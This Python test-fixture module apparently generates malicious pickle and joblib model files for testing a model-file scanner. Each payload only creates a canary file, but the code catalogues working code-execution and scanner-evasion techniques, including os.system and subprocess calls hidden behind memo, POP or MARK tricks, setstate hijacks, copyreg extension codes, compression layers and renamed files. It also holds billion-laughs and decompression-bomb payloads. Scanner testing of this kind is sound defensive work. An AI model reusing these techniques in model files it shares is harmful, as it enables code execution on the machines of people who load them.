"""Malicious model files. Each writes a canary file if anything of it is executed.

`malicious(folder)` gives them; those with `fires` do write their canary when they are loaded the usual way,
which `firing.py` shows in a process to throw away, so that "no canary" means something.
"""

from __future__ import annotations

import bz2
import gzip
import lzma
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

from assembler import MARK, POP, PROTO, REDUCE, Raw, built, call, canary, evil, honest, name, new, pickled, value
from malicious_archives import archives
from malicious_arrays import arrays


@dataclass(frozen=True)
class Malicious:
    """One file.

    Attributes:
        kind: the kind it is scanned as.
        file: its file name.
        fires: loading it the usual way (`how`: pickle, joblib, numpy) writes its canary.
    """

    name: str
    kind: str
    file: str
    data: bytes
    fires: bool = False
    how: str = "pickle"


Make = Callable[[str], bytes]
SYSTEM = ("os", "system")
COMPRESS: dict[str, Callable[[bytes], bytes]] = {
    "zlib": zlib.compress, "gzip": gzip.compress, "bz2": bz2.compress, "xz": lambda data: lzma.compress(data, preset=0),
    "lzma": lambda data: lzma.compress(data, format=lzma.FORMAT_ALONE, preset=0),
}


def malicious(canaries: Path) -> list[Malicious]:
    """All of them, every one with a canary of its own below `canaries`."""
    found = [Malicious(f"calls {label}", "pickle", "model.pkl", pickled(body), fires) for label, body, fires in _calls(canaries)]
    found += [Malicious(f"form {label}", "pickle", "model.pkl", data, fires) for label, data, fires in _forms(canaries)]
    found += _compressed(canaries)
    found += _renamed(canaries)
    found += [Malicious(f"array {label}", kind, f"model.{'pkl' if kind == 'pickle' else 'joblib'}", data, fires, how)
              for label, kind, data, fires, how in arrays(canaries)]
    found += [Malicious(f"file {label}", kind, file, data, fires, how) for label, kind, file, data, fires, how in archives(canaries)]
    assert len({one.name for one in found}) == len(found)
    return found


def _calls(canaries: Path) -> Iterator[tuple[str, Raw, bool]]:
    """What an author may call, by module and function; the last word is whether the canary is written."""
    for label, make, fires in _CALLS:
        path = str(canary(canaries, f"calls {label}"))
        yield label, make(path), fires


def _simple(module: str, function: str, *args: object) -> tuple[str, Callable[[str], Raw], bool]:
    """A call whose arguments mention PATH where the canary goes."""

    def filled(one: object, path: str) -> object:
        if isinstance(one, str):
            return one.replace("PATH", path)
        return [filled(part, path) for part in one] if isinstance(one, list) else one

    return f"{module}.{function}", lambda path: call((module, function), *(filled(one, path) for one in args)), True


def _inert(module: str, function: str, *args: object) -> tuple[str, Callable[[str], Raw], bool]:
    """A call that harms in another way, or needs something that is not installed."""
    return f"{module}.{function}", lambda _path: call((module, function), *args), False


PYTHON = "open('PATH', 'w').close()"
_CALLS = [
    _simple("os", "system", "touch PATH"), _simple("posix", "system", "touch PATH"), _simple("os", "popen", "touch PATH"),
    _simple("os", "mkdir", "PATH"), _simple("os", "makedirs", "PATH"), _simple("os", "mkfifo", "PATH"), _simple("os", "mknod", "PATH"),
    _simple("os", "symlink", "/etc/passwd", "PATH"), _simple("os", "open", "PATH", 65), _simple("os", "spawnlp", 0, "touch", "touch", "PATH"),
    _simple("os", "execlp", "touch", "touch", "PATH"), _simple("os", "posix_spawn", "/usr/bin/touch", ["touch", "PATH"], {}),
    _simple("subprocess", "call", ["touch", "PATH"]), _simple("subprocess", "run", ["touch", "PATH"]),
    _simple("subprocess", "check_call", ["touch", "PATH"]), _simple("subprocess", "check_output", ["touch", "PATH"]),
    _simple("subprocess", "Popen", ["touch", "PATH"]), _simple("subprocess", "getoutput", "touch PATH"),
    _simple("subprocess", "getstatusoutput", "touch PATH"), _simple("pty", "spawn", ["touch", "PATH"]),
    _simple("builtins", "eval", PYTHON), _simple("builtins", "exec", PYTHON), _simple("builtins", "open", "PATH", "w"),
    _inert("__builtin__", "eval", PYTHON), _simple("io", "open", "PATH", "w"), _simple("io", "FileIO", "PATH", "w"),
    _simple("_io", "open", "PATH", "w"), _simple("codecs", "open", "PATH", "w"), _simple("gzip", "open", "PATH", "wb"),
    _simple("bz2", "open", "PATH", "wb"), _simple("lzma", "open", "PATH", "wb"), _simple("zipfile", "ZipFile", "PATH", "w"),
    _simple("tarfile", "open", "PATH", "w"), _simple("logging", "FileHandler", "PATH"), _simple("shutil", "copy", "/etc/hostname", "PATH"),
    _simple("shutil", "copyfile", "/etc/hostname", "PATH"), _simple("shutil", "copytree", "/etc/python3", "PATH"),
    _simple("timeit", "timeit", PYTHON, "pass", name("time", "perf_counter"), 1), _simple("timeit", "main", ["-n", "1", PYTHON]),
    _simple("cProfile", "run", PYTHON, "/dev/null"), _simple("profile", "run", PYTHON, "/dev/null"),
    _simple("trace", "main"), _simple("uuid", "_get_command_stdout", "touch", "PATH"), _simple("pydoc", "pipepager", "", "touch PATH"),
    _simple("_osx_support", "_read_output", "touch PATH"), _inert("_aix_support", "_read_cmd_output", "ls"),
    _simple("imaplib", "IMAP4_stream", "touch PATH"), _simple("distutils.file_util", "write_file", "PATH", ["x"]),
    _simple("distutils.spawn", "spawn", ["touch", "PATH"]), _simple("dbm.dumb", "open", "PATH", "n"),
    _simple("multiprocessing.util", "spawnv_passfds", b"/usr/bin/touch", ["touch", "PATH"], []),
    _simple("numpy.testing._private.utils", "runstring", PYTHON, {}), _simple("numpy.f2py.crackfortran", "myeval", PYTHON),
    _simple("numpy.f2py.crackfortran", "getlincoef", PYTHON, {}), _simple("numpy", "savetxt", "PATH", [1]),
    _simple("numpy", "save", "PATH", [1]), _simple("numpy", "memmap", "PATH", "uint8", "w+", 0, 1),
    _simple("joblib", "dump", [1], "PATH"), _simple("joblib.memory", "Memory", "PATH"), _simple("pandas", "to_pickle", 1, "PATH"),
    _simple("pandas.io.common", "get_handle", "PATH", "w"), _simple("sklearn.datasets", "get_data_home", "PATH"),
    _inert("builtins", "__import__", "os"), _inert("importlib", "import_module", "antigravity"), _inert("builtins", "getattr", "a", "join"),
    _inert("builtins", "setattr", 1, "a", 2), _inert("builtins", "compile", "1", "a", "eval"), _inert("builtins", "globals"),
    _inert("builtins", "breakpoint"), _inert("builtins", "input"), _inert("builtins", "type", "a", (), {}), _inert("builtins", "vars"),
    _inert("runpy", "run_path", "/etc/hostname"), _inert("runpy", "run_module", "this"), _inert("code", "interact"),
    _inert("ctypes", "CDLL", "libc.so.6"), _inert("ctypes", "cast", 1, 2), _inert("socket", "create_connection", ("127.0.0.1", 9)),
    _inert("socket", "gethostbyname", "localhost"), _inert("urllib.request", "urlopen", "http://127.0.0.1:9"),
    _inert("requests.api", "get", "http://127.0.0.1:9"), _inert("webbrowser", "open", "http://127.0.0.1:9"),
    _inert("http.server", "test"), _inert("ssl", "get_server_certificate", ("127.0.0.1", 9)), _inert("pickle", "loads", b"N."),
    _inert("pickle", "load"), _inert("_pickle", "loads", b"N."), _inert("marshal", "loads", b"N"), _inert("dill", "loads", b"N."),
    _inert("cloudpickle", "loads", b"N."), _inert("shelve", "open"), _inert("numpy", "load", "/x", None, True), _inert("joblib", "load", "/x"),
    _inert("numpy", "fromfile", "/etc/passwd"), _inert("numpy", "loadtxt", "/etc/passwd"), _inert("numpy.distutils.exec_command", "exec_command"),
    _inert("pandas", "read_pickle", "/x"), _inert("pandas", "eval", "1"), _inert("pandas.core.computation.eval", "eval", "1"),
    _inert("torch", "load", "/x"), _inert("torch.hub", "load", "a", "b"), _inert("torch.serialization", "load", "/x"),
    _inert("torch._inductor.codecache", "compile_file"), _inert("torch.utils.collect_env", "run", "ls"), _inert("tensorflow", "io.read_file"),
    _inert("sklearn.utils._testing", "run_in_subprocess"), _inert("sklearn.datasets", "fetch_openml", "a"), _inert("sklearn.utils", "gen_batches"),
    _inert("operator", "attrgetter", "a"), _inert("operator", "methodcaller", "a"), _inert("operator", "itemgetter", 1),
    _inert("functools", "partial", name("numpy", "exp")), _inert("functools", "reduce"), _inert("itertools", "starmap"),
    _inert("types", "FunctionType"), _inert("types", "CodeType"), _inert("weakref", "ref"), _inert("copyreg", "_reconstructor"),
    _inert("copyreg", "__newobj__"), _inert("sys", "exit"), _inert("os", "_exit", 3), _inert("os", "kill", 1, 0), _inert("signal", "alarm", 1),
    _inert("threading", "Thread"), _inert("asyncio", "run"), _inert("bdb", "Bdb"), _inert("pdb", "set_trace"), _inert("doctest", "debug"),
    _inert("site", "main"), _inert("pip", "main", ["list"]), _inert("ensurepip", "bootstrap"), _inert("venv", "create"), _inert("tempfile", "mktemp"),
    _inert("sqlite3", "connect", ":memory:"), _inert("airflow.models", "Variable"), _inert("modelops_airflow.kinds.confinement.jail", "score_in_jail"),
]
_CALLS = [one for one in _CALLS if one[0] != "trace.main"]


def _forms(canaries: Path) -> Iterator[tuple[str, bytes, bool]]:
    """The same call in every way that a pickle can make it, and pickles that are more or less than one."""
    for label, make, fires in _FORMS:
        yield label, make(f"touch {canary(canaries, f'form {label}')}"), fires


def _short(text: str) -> bytes:
    return b"\x8c" + bytes([len(text.encode())]) + text.encode()


def _stack_global(module: bytes, attribute: bytes, command: str) -> bytes:
    return PROTO[4] + module + attribute + b"\x93" + value((command,)) + REDUCE + b"."


def _dotted(module: str, attribute: str) -> Make:
    return lambda command: _stack_global(_short(module), _short(attribute), command)


def _cloud(one: object) -> bytes:
    import cloudpickle

    return bytes(cloudpickle.dumps(one))


def _cloud_model(command: str) -> bytes:
    from sklearn.preprocessing import FunctionTransformer

    return _cloud(FunctionTransformer(lambda rows: (__import__("os").system(command), rows)[1]))


MODEL = ("sklearn.linear_model._base", "LinearRegression")
_FORMS: list[tuple[str, Make, bool]] = [
    *[(f"protocol {number}", lambda command, number=number: evil(command, number), True) for number in range(6)],
    ("text", lambda command: b"cos\nsystem\n(S'" + command.encode() + b"'\ntR.", True),
    ("inst", lambda command: b"(S'" + command.encode() + b"'\nios\nsystem\n.", True),
    ("obj", lambda command: b"(cos\nsystem\n" + value(command) + b"o.", True),
    ("obj in protocol 2", lambda command: pickled(MARK + name(*SYSTEM) + value(command) + b"o", 2), True),
    ("inst in protocol 2", lambda command: pickled(MARK + value(command) + b"ios\nsystem\n", 2), True),
    ("stack global", lambda command: _stack_global(_short("os"), _short("system"), command), True),
    ("stack global from memo", lambda command: PROTO[4] + _short("os") + b"\x94" + b"0" + _short("system") + b"\x94" + b"0h\x00h\x01\x93" + value((command,)) + b"R.", True),
    ("stack global computed", lambda command: _stack_global(call(("builtins", "str"), "os"), _short("system"), command), True),
    ("stack global decoded", lambda command: _stack_global(call(("_codecs", "decode"), b"os", "ascii"), _short("system"), command), True),
    ("stack global of numbers", lambda command: _stack_global(value(1), value(2), command), False),
    ("dotted name", _dotted("pathlib", "os.system"), True),
    ("dotted name below sklearn", _dotted("sklearn.datasets._base", "os.system"), True),
    ("dotted name below numpy", _dotted("numpy.lib._npyio_impl", "os.system"), True),
    ("dotted name of an allowed class", _dotted("sklearn.linear_model._base", "LinearRegression.fit.__globals__"), False),
    ("import and getattr", lambda command: pickled(call(call(("builtins", "getattr"), call(("importlib", "import_module"), "os"), "system"), command)), True),
    ("dunder import and getattr", lambda command: pickled(call(call(("builtins", "getattr"), call(("builtins", "__import__"), "os"), "system"), command)), True),
    ("attrgetter", lambda command: pickled(call(call(call(("operator", "attrgetter"), "system"), call(("importlib", "import_module"), "os")), command)), True),
    ("methodcaller", lambda command: pickled(call(call(("operator", "methodcaller"), "system", command), call(("importlib", "import_module"), "os"))), True),
    ("partial", lambda command: pickled(call(call(("functools", "partial"), name(*SYSTEM)), command)), True),
    ("partial with another state", lambda command: pickled(call(built(call(("functools", "partial"), name("numpy", "exp")), (name(*SYSTEM), (command,), {}, None)))), True),
    ("map and list", lambda command: pickled(call(("builtins", "list"), call(("builtins", "map"), name(*SYSTEM), [command]))), True),
    ("reduce of functools", lambda command: pickled(call(("functools", "reduce"), name("operator", "call"), [name(*SYSTEM), command])), True),
    ("operator.call", lambda command: pickled(call(("operator", "call"), name(*SYSTEM), command)), True),
    ("instance with a setstate", lambda command: pickled(built(built(new(*MODEL), {"__setstate__": name(*SYSTEM)}), command)), True),
    ("class with a setstate", lambda command: pickled(Raw(built(name(*MODEL), (None, {"__setstate__": name(*SYSTEM)})) + POP + built(new(*MODEL), command))), False),
    ("class with another predict", lambda command: pickled(Raw(built(name(*MODEL), (None, {"predict": name(*SYSTEM)})) + POP + new(*MODEL))), False),
    ("dunder of allowed names", lambda _command: pickled(built(new(*MODEL), {"__setstate__": name("numpy", "exp")})), False),
    ("another class by its state", lambda _command: pickled(built(new(*MODEL), (None, {"__class__": name("sklearn.pipeline", "Pipeline")}))), False),
    ("extension code", lambda command: pickled(Raw(call(("copyreg", "add_extension"), "os", "system", 77) + POP + Raw(b"\x82\x4d") + value((command,)) + REDUCE)), True),
    ("extension code of two bytes", lambda _command: PROTO[2] + b"\x83\x01\x01.", False),
    ("extension code of four bytes", lambda _command: PROTO[2] + b"\x84\x01\x01\x00\x00.", False),
    ("persistent id", lambda _command: b"Pos.system\n.", False),
    ("binary persistent id", lambda command: pickled(Raw(value(command) + b"Q")), False),
    ("newobj with arguments", lambda _command: pickled(new(*MODEL, 1)), False),
    ("newobj of a program", lambda command: pickled(new("subprocess", "Popen", [command])), False),
    ("newobj with keywords", lambda _command: PROTO[4] + name(*MODEL) + b")}\x92.", False),
    ("out-of-band buffer", lambda _command: PROTO[5] + b"\x97.", False),
    ("hidden behind a pop", lambda command: PROTO[2] + call(SYSTEM, command) + POP + honest()[2:], True),
    ("hidden behind a mark", lambda command: PROTO[2] + MARK + call(SYSTEM, command) + b"1" + honest()[2:], True),
    ("hidden in the memo", lambda command: PROTO[2] + call(SYSTEM, command) + b"r\xff\x00\x00\x00" + POP + honest()[2:], True),
    ("in an attribute of a model", lambda command: PROTO[2] + honest()[2:-1] + value({"n_jobs": call(SYSTEM, command)}) + b"b.", True),
    ("in a key of a dictionary", lambda command: pickled(Raw(b"}" + call(SYSTEM, command) + value(1) + b"s")), True),
    ("second of two", lambda command: honest() + evil(command), True),
    ("first of two", lambda command: evil(command) + honest(), True),
    ("second of two after a line", lambda command: honest() + b"\n" + evil(command), False),
    ("trailing bytes", lambda _command: honest() + b"\x00", False),
    ("trailing zip", lambda _command: honest() + b"PK\x05\x06" + bytes(18), False),
    ("cut off after the call", lambda command: evil(command)[:-1], True),
    ("broken after the call", lambda command: evil(command)[:-1] + b"\xff\xff", True),
    ("unknown operation after the call", lambda command: PROTO[3] + call(SYSTEM, command) + b"\xf0.", True),
    ("protocol twice", lambda command: PROTO[2] + PROTO[4] + call(SYSTEM, command) + b".", True),
    ("protocol 9", lambda command: b"\x80\x09" + call(SYSTEM, command) + b".", False),
    ("no protocol", lambda command: call(SYSTEM, command) + b".", True),
    ("frame beyond the end", lambda command: PROTO[4] + b"\x95" + (1 << 40).to_bytes(8, "little") + call(SYSTEM, command) + b".", False),
    ("frame over another", lambda command: PROTO[4] + b"\x95" + (60).to_bytes(8, "little") + b"\x95" + (10).to_bytes(8, "little") + call(SYSTEM, command) + b".", False),
    ("two objects left", lambda command: pickled(Raw(call(SYSTEM, command) + value(1))), True),
    ("memo of two thousand million", lambda _command: PROTO[2] + b"Nr\xff\xff\xff\x7f.", False),
    ("memo never written", lambda _command: PROTO[2] + b"h\x05.", False),
    ("text of a terabyte", lambda _command: PROTO[4] + b"\x8d" + (1 << 40).to_bytes(8, "little") + b"x.", False),
    ("bytes of a terabyte", lambda _command: PROTO[4] + b"\x8e" + (1 << 40).to_bytes(8, "little") + b"x.", False),
    ("negative number of bytes", lambda _command: PROTO[2] + b"\x8b\xff\xff\xff\xff.", False),
    ("a million tuples in each other", lambda _command: PROTO[2] + b")" + b"\x85" * 1_000_000 + b".", False),
    ("a billion laughs", lambda _command: PROTO[2] + b"]q\x00" + b"".join(b"(" + b"h\x00" * 40 + b"lq\x00" for _ in range(40)) + b".", False),
    ("a doubled tuple a hundred times", lambda _command: PROTO[2] + b")" + b"q\x00h\x00\x86" * 100 + b".", False),
    ("only a stop", lambda _command: PROTO[2] + b".", False),
    ("a dictionary and no model", lambda _command: pickled(value({"a": 1})), False),
    ("escapes in a name", lambda command: PROTO[2] + b"c\\x6fs\nsystem\n" + value((command,)) + b"R.", False),
    ("a space in a name", lambda command: PROTO[2] + b"cnumpy dtype\nos\n" + value((command,)) + b"R.", False),
    ("an allowed function with an odd argument", lambda _command: pickled(call(("numpy", "dtype"), name(*MODEL))), False),
    ("an allowed value that is called", lambda _command: pickled(call(("numpy", "exp"), 1)), False),
    ("an estimator that is called", lambda _command: pickled(call(MODEL)), False),
    ("a random state of functions", lambda _command: pickled(call(("numpy.random._pickle", "__randomstate_ctor"), "a", name("numpy", "exp"))), False),
    ("a tree made of names", lambda _command: pickled(call(("sklearn.tree._tree", "Tree"), 1, name("numpy", "exp"), 1)), False),
    ("a function as the model", lambda _command: pickled(name("numpy", "exp")), False),
    ("a lambda by value", lambda command: _cloud(lambda: __import__("os").system(command)), False),
    ("a model with a function by value", _cloud_model, False),
]


def _compressed(canaries: Path) -> Iterator[Malicious]:
    def one(label: str, make: Callable[[bytes], bytes], *, kind: str = "joblib", fires: bool = True) -> Malicious:
        full = f"compressed {label}"
        return Malicious(full, kind, "model.pkl", make(evil(f"touch {canary(canaries, full)}")), fires, "joblib")

    for algorithm, compress in COMPRESS.items():
        yield one(algorithm, compress)
        yield one(f"{algorithm} as pickle", compress, kind="pickle")
        yield one(f"{algorithm} twice", lambda data, compress=compress: compress(compress(data)), fires=False)
        yield one(f"{algorithm} four times", lambda data, compress=compress: compress(compress(compress(compress(data)))), fires=False)
        yield one(f"{algorithm} cut off", lambda data, compress=compress: compress(data)[:-3], fires=False)
        yield one(f"{algorithm} followed by bytes", lambda data, compress=compress: compress(honest()) + data, fires=False)
        yield one(f"{algorithm} bomb", lambda data, compress=compress: compress(bytes(36_000_000) + data), fires=False)
    layers = lambda data: zlib.compress(gzip.compress(bz2.compress(data)))  # noqa: E731 - three of them
    yield one("three different", layers, fires=False)
    yield one("bomb in a bomb", lambda data: gzip.compress(gzip.compress(bytes(36_000_000) + data)), fires=False)
    yield one("two members of gzip", lambda data: gzip.compress(honest()) + gzip.compress(data), fires=False)
    yield one("lz4", lambda data: b"\x04\x22\x4d\x18" + data, fires=False)
    yield one("old joblib", lambda data: b"ZF0x10" + zlib.compress(data), fires=False)


def _renamed(canaries: Path) -> Iterator[Malicious]:
    for kind, suffix in (("skops", ".skops"), ("onnx", ".onnx"), ("rules", ".yaml"), ("joblib", ".joblib"), ("cloudpickle", ".pkl"), ("pickle", ".npy")):
        for protocol in (0, 4):
            label = f"renamed {suffix} {kind} {protocol}"
            yield Malicious(label, kind, f"model{suffix}", evil(f"touch {canary(canaries, label)}", protocol), True)
    for kind, suffix in (("skops", ".skops"), ("onnx", ".onnx"), ("rules", ".yaml")):
        label = f"renamed compressed {suffix}"
        yield Malicious(label, kind, f"model{suffix}", zlib.compress(evil(f"touch {canary(canaries, label)}")), True, "joblib")
